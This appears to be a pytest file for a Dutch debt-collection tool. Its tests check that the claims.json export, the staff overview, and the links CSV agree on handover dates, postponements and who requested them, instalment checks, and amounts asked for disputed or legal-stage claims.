def test_a_handover_waiting_for_the_statements_has_in_claims_json_the_day_the_overview_gives(tmp_path):
    """The notice of 24 February's term ended on 12 March; the statements read end on 11 March. The overview gives
    the handover "sinds 13 maart 2026, als de afschriften geen betaling in de termijn tonen"; claims.json said
    `due` 2026-03-16 (tomorrow, each build: a day that moves), and nothing of why it waits. One day for both."""
    from dataclasses import replace

    from incasso.staff.overview import staff_rows
    from incasso.staff.rows import claim_row

    ledger = one_debtor_ledger(tmp_path, events=[event(date(2026, 2, 24), "final_notice")])
    early = replace(ledger, bank_until=date(2026, 3, 11))
    claim = assess(early, early.debtors[0], date(2026, 3, 15))
    record = claim_record(claim, early.creditor.policy, "")
    assert record["next_action"] == {
        "kind": "handover",
        "due": "2026-03-13",
        "is_due": False,
        "awaits_statements": True,
        "postponed": None,
        "postponed_if_missed": None,
    }
    (row,) = staff_rows([claim], early.creditor.policy, {claim.debtor.id: "d.html"})
    assert claim_row(row, "final_notice", claim.as_of).next.when_iso == record["next_action"]["due"]
    read = assess(ledger, ledger.debtors[0], date(2026, 3, 15))  # the statements in: due since the 13th, as it said
    assert claim_record(read, ledger.creditor.policy, "")["next_action"] == {
        "kind": "handover",
        "due": "2026-03-13",
        "is_due": True,
        "awaits_statements": False,
        "postponed": None,
        "postponed_if_missed": None,
    }


@pytest.mark.parametrize("asked_by", ["representative", "debtor", None])
def test_a_postpone_in_claims_json_says_who_asked_for_it(tmp_path, asked_by):
    """s46: the page says a wait the debtor or their counsellor asked for, staff see who asked; claims.json, read by
    staff's own tools, carried nothing of the postpone that moved the step, `asked_by` included."""
    record = _asked_pause_record(tmp_path, asked_by)
    assert record["next_action"]["due"] == "2026-12-01"
    assert record["next_action"]["postponed"] == {
        "recorded": "2026-11-12",
        "until": "2026-12-01",
        "asked_by": asked_by,
        "reason": "Schuldhulp\nmaakt een inventarisatie",
    }
    assert (
        json.loads(claims_json({"claims": [record]}))["claims"][0]["next_action"]["postponed"]["asked_by"] == asked_by
    )


@pytest.mark.parametrize("asked_by", ["representative", None])
def test_a_wait_over_a_plan_s_check_is_in_claims_json(tmp_path, asked_by):
    """s48: while an instalment is checked, a `postpone` moves not the check but the reminder a miss would bring: the
    page and the dossier said the wait, claims.json's `next_action.postponed` stayed null, as if nothing held."""
    action = _wait_over_plan_record(tmp_path, asked_by)["next_action"]
    assert (action["kind"], action["due"], action["postponed"]) == ("check_installment", "2026-12-02", None)
    assert action["postponed_if_missed"] == {
        "recorded": "2026-11-12",
        "until": "2027-03-01",
        "asked_by": asked_by,
        "reason": "Schuldhulp\nmaakt een inventarisatie",
    }
    over = _wait_over_plan_record(tmp_path / "over", asked_by, until=AS_OF)  # its until come: it holds nothing now
    assert over["next_action"]["postponed_if_missed"] is None


def test_a_postpone_that_moved_the_step_is_not_said_again_as_one_over_a_check(tmp_path):
    assert _asked_pause_record(tmp_path)["next_action"]["postponed_if_missed"] is None


def test_links_csv_asks_no_amount_where_the_page_asks_none(tmp_path):
    """A dispute of the whole dossier: the page and its QR code ask no amount (the debtor fills in the part they
    agree with), so a mail merge must not demand the total (new1 review, #2); the status says why. In legal
    steps the page names what is owed without asking it (the court's and the bailiff's costs come on top)."""
    disputed = [event(date(2026, 3, 1), "dispute", reason="Niet geleverd")]
    legal = [event(date(2026, 3, 1), "final_notice", costs=Decimal("187.50")), event(date(2026, 4, 1), "legal")]
    rows = {}
    for name, events in (("dispute", disputed), ("legal", legal), ("open", [])):
        ledger = one_debtor_ledger(tmp_path / name, events=events)
        rows[name] = links_rows([assess(ledger, ledger.debtors[0], date(2026, 5, 1))], lambda c: "")[0]
    assert (rows["dispute"]["status"], rows["dispute"]["amount_to_pay"]) == (Status.DISPUTE, "")
    assert Decimal(rows["dispute"]["total_due"]) >= Decimal("1250.00")
    assert (rows["legal"]["stage"], rows["legal"]["amount_to_pay"]) == (Stage.LEGAL, "")
    assert rows["open"]["amount_to_pay"] == rows["open"]["amount_due_now"] != ""


STAFF_LEDGER = REPO / "tests" / "fixtures" / "staff" / "ledger"


@pytest.mark.parametrize("ledger", [DEMO_LEDGER, PRIVACY_LEDGER, STAFF_LEDGER], ids=["demo", "privacy", "staff"])
def test_claims_json_s_flags_taken_from_the_book_are_those_found_again(ledger):
    # s42: the build found every claim's flags twice, for the overview's rows and again for claims.json (1 s of
    # the staff thread at 10,000 debtors); it takes them from the rows now, which must say the same.
    books = read_books(ledger, AS_OF)
    claims = [assess(books.ledger, d, AS_OF) for d in books.ledger.debtors]
    book = staff_book(claims, books.ledger.creditor, AS_OF, "", lambda c: f"s/{c.debtor.id}/", bank=books.bank)
    args = (claims, AS_OF, books.ledger.creditor.policy, book.link_of, doubted_credits(book.bank))
    rest = (
        {row.id: row.returns for row in book.rows},
        book.bank,
        possibly_paid(book),
        book.first_seen,
    )
    found = flag_kinds(book.rows)
    assert claims_document(*args, *rest, found) == claims_document(*args, *rest)
    kinds = {f.kind for row in book.rows for f in row.flags}
    assert kinds & {FlagKind.POSSIBLE_PAYMENT, FlagKind.DOSSIER_NOTE, FlagKind.NOTE_BEFORE_STEP}  # put first, left out
